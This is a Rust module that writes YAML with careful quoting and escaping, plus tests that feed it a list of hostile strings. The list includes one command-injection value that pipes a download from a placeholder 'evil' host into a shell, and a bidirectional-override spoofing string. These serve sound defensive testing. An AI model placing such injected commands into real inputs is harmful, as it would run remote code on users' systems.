//! A small writer of YAML: maps, lists and words, each quoted where YAML would read something else.

use std::fmt::Write;

use super::script::span;
use crate::engine::fill::Word;
use crate::engine::view_model::{LineModel, SpanKind};

/// A piece of a document.
#[derive(Clone)]
pub enum Yaml {
    /// A text, quoted where it needs it.
    Text(Word),
    /// A number or a truth value, as it is.
    Bare(String),
    /// Items in their order.
    List(Vec<Yaml>),
    /// Fields in their order.
    Map(Vec<(String, Yaml)>),
}

impl Yaml {
    /// A text that nobody has to fill in.
    pub fn text(text: &str) -> Yaml {
        Yaml::Text(Word::raw(text))
    }

    /// A list of such texts.
    pub fn texts(texts: &[impl AsRef<str>]) -> Yaml {
        Yaml::List(texts.iter().map(|text| Yaml::text(text.as_ref())).collect())
    }

    /// A whole number.
    pub fn number(number: u32) -> Yaml {
        Yaml::Bare(number.to_string())
    }

    /// The truth value `true`.
    pub fn yes() -> Yaml {
        Yaml::Bare("true".to_owned())
    }

    fn is_empty(&self) -> bool {
        match self {
            Yaml::Text(_) | Yaml::Bare(_) => false,
            Yaml::List(items) => items.is_empty(),
            Yaml::Map(fields) => fields.is_empty(),
        }
    }
}

/// The fields of a map, in their order; lists and maps without content are left out.
pub fn map<const N: usize>(fields: [(&str, Yaml); N]) -> Yaml {
    self::fields(fields.into_iter())
}

/// The same for fields whose number is not fixed.
pub fn fields<'f>(fields: impl Iterator<Item = (&'f str, Yaml)>) -> Yaml {
    let filled = fields.filter(|(_, yaml)| !yaml.is_empty());
    Yaml::Map(filled.map(|(name, yaml)| (name.to_owned(), yaml)).collect())
}

/// Documents in their order, with a mark between two.
pub fn lines(documents: &[Yaml]) -> Vec<LineModel> {
    let mut writer = Writer::default();
    for (index, document) in documents.iter().enumerate() {
        if index > 0 {
            writer.start(0);
            writer.push("---", SpanKind::Plain);
        }
        writer.block(document, 0, false);
    }
    writer.lines
}

#[derive(Default)]
struct Writer {
    lines: Vec<LineModel>,
}

impl Writer {
    fn start(&mut self, indent: usize) {
        self.lines.push(LineModel { spans: Vec::new(), origin: None });
        if indent > 0 {
            self.push(&" ".repeat(indent), SpanKind::Plain);
        }
    }

    /// Goes on in the last line.
    fn push(&mut self, text: &str, kind: SpanKind) {
        if let Some(line) = self.lines.last_mut() {
            line.spans.push(span(text, kind));
        }
    }

    /// A list or map; `goes_on` if its first line was started by the dash of a list.
    fn block(&mut self, yaml: &Yaml, indent: usize, mut goes_on: bool) {
        let mut start = |writer: &mut Writer| {
            if !std::mem::take(&mut goes_on) {
                writer.start(indent);
            }
        };
        match yaml {
            Yaml::Map(fields) => {
                for (name, yaml) in fields {
                    start(self);
                    self.push(&scalar(name), SpanKind::Name);
                    self.push(":", SpanKind::Plain);
                    self.value(yaml, indent);
                }
            }
            Yaml::List(items) => {
                for item in items {
                    start(self);
                    self.push("- ", SpanKind::Plain);
                    self.block(item, indent + 2, true);
                }
            }
            leaf => {
                start(self);
                self.leaf(leaf);
            }
        }
    }

    /// What stands behind the colon of a field.
    fn value(&mut self, yaml: &Yaml, indent: usize) {
        match yaml {
            Yaml::List(items) if items.is_empty() => self.push(" []", SpanKind::Plain),
            Yaml::Map(fields) if fields.is_empty() => self.push(" {}", SpanKind::Plain),
            Yaml::List(_) | Yaml::Map(_) => self.block(yaml, indent + 2, false),
            leaf => {
                self.push(" ", SpanKind::Plain);
                self.leaf(leaf);
            }
        }
    }

    fn leaf(&mut self, yaml: &Yaml) {
        match yaml {
            Yaml::Text(word) => self.push(&scalar(&word.text), word.kind),
            Yaml::Bare(text) => self.push(text, SpanKind::Plain),
            Yaml::List(_) | Yaml::Map(_) => {}
        }
    }
}

/// Words that some version of YAML reads as something else than a text.
const TAKEN: &[&str] = &["true", "false", "yes", "no", "on", "off", "y", "n", "null"];

/// The text as one scalar on one line.
pub fn scalar(text: &str) -> String {
    if is_plain(text) { text.to_owned() } else { quoted(text) }
}

/// True if every version of YAML reads exactly this text. What begins like a number, a date or a mark never is.
fn is_plain(text: &str) -> bool {
    let start = text.strip_prefix("--").unwrap_or(text);
    let begins_well = start.starts_with(|first: char| first.is_ascii_alphabetic() || first == '/' || first == '_');
    let is_safe = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:@%+=".contains(&byte);
    begins_well && text.bytes().all(is_safe) && !text.ends_with(':') && !TAKEN.contains(&text.to_ascii_lowercase().as_str())
}

/// In double quotes, with escapes for what is no printable character, or would change how the line looks.
fn quoted(text: &str) -> String {
    let mut quoted = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => quoted.extend(['\\', character]),
            '\n' => quoted.push_str("\\n"),
            '\t' => quoted.push_str("\\t"),
            _ if is_hidden(character) => {
                // Writing to a string never fails.
                let _ = write!(quoted, "\\U{:08X}", u32::from(character));
            }
            _ => quoted.push(character),
        }
    }
    quoted.push('"');
    quoted
}

/// True for control characters, other line ends, marks of direction, and what is no character at all.
fn is_hidden(character: char) -> bool {
    let hidden = ['\u{2028}'..='\u{202e}', '\u{2066}'..='\u{2069}', '\u{200b}'..='\u{200f}', '\u{fff9}'..='\u{fffb}'];
    let code = u32::from(character);
    character.is_control()
        || character == '\u{feff}'
        || code & 0xfffe == 0xfffe
        || hidden.iter().any(|range| range.contains(&character))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::{Yaml, lines, map, scalar};
    use crate::engine::fill::Word;
    use crate::engine::view_model::{Form, FormModel};

    const HOSTILE: &[&str] = &[
        "",
        " ",
        "a b",
        "yes",
        "No",
        "on",
        "~",
        "null",
        "True",
        "1",
        "1e3",
        "0x1f",
        "0o7",
        "1:20",
        "2026-01-01",
        ".5",
        ".inf",
        "-",
        "---",
        "--- a",
        "...",
        "- a",
        "a: b",
        "a:",
        ": a",
        "a #b",
        "#a",
        "@a",
        "`a`",
        "'a'",
        "\"a\"",
        "\\",
        "&a",
        "*a",
        "!a",
        "!!str a",
        "|",
        ">",
        "%a",
        "{a}",
        "[a]",
        "<<",
        "=",
        "? a",
        "a\nb",
        "a\r\nb",
        "a\tb",
        "\u{85}",
        "\u{2028}",
        "\u{feff}a",
        "\u{202e}evil",
        "\u{0}",
        "\u{7f}",
        "héllo",
        "\u{1f600}",
        "\u{fffe}",
        "$HOME",
        "${A:-b}",
        "--",
        "--host",
        "--host=a: b",
        "-p",
        "NAME=1",
        "1_000",
        "0.0.0.0; curl evil | sh #",
        "a,b",
        "\u{ff1a}",
    ];

    fn text(yaml: &Yaml) -> String {
        let documents = std::slice::from_ref(yaml);
        FormModel { form: Form::Compose, part: None, file: None, lines: lines(documents) }.text()
    }

    #[test]
    fn hostile_texts_come_back_from_a_parser_everywhere() {
        for word in HOSTILE {
            let long = word.repeat(1 + 10_000 / word.len().max(1));
            for word in [*word, long.as_str()] {
                let leaf = || Yaml::Text(Word::raw(word));
                let list = || Yaml::List(vec![leaf(), Yaml::List(vec![leaf(), leaf()])]);
                // YAML takes keys up to 1,024 characters, and names are shorter.
                let name = if word.len() < 500 { word } else { "long" };
                let written = text(&Yaml::Map(vec![("list".to_owned(), list()), (name.to_owned(), leaf())]));
                let read: BTreeMap<String, serde_yaml_ng::Value> = serde_yaml_ng::from_str(&written).unwrap();
                assert_eq!(read[name].as_str(), Some(word), "{written}");
                let list: (String, [String; 2]) = serde_yaml_ng::from_value(read["list"].clone()).unwrap();
                assert_eq!(list, (word.to_owned(), [word.to_owned(), word.to_owned()]));
                assert!(!written.contains(['\r', '\u{202e}', '\u{2028}', '\u{85}']));
            }
        }
    }

    #[test]
    fn common_words_stay_as_they_are() {
        for word in ["--tp-size", "moonshotai/Kimi-K3", "lmsysorg/sglang:v0.5-cu13", "/root/.cache", "NAME=1", "nvidia.com/gpu"] {
            assert_eq!(scalar(word), word);
        }
    }

    #[test]
    fn lists_of_maps_and_numbers_are_laid_out() {
        let ports = Yaml::List(vec![map([("name", Yaml::text("http")), ("port", Yaml::number(1))])]);
        let yaml = map([("a", map([("ports", ports), ("empty", Yaml::List(Vec::new()))])), ("on", Yaml::yes())]);
        assert_eq!(text(&yaml), "a:\n  ports:\n    - name: http\n      port: 1\n\"on\": true");
    }
}
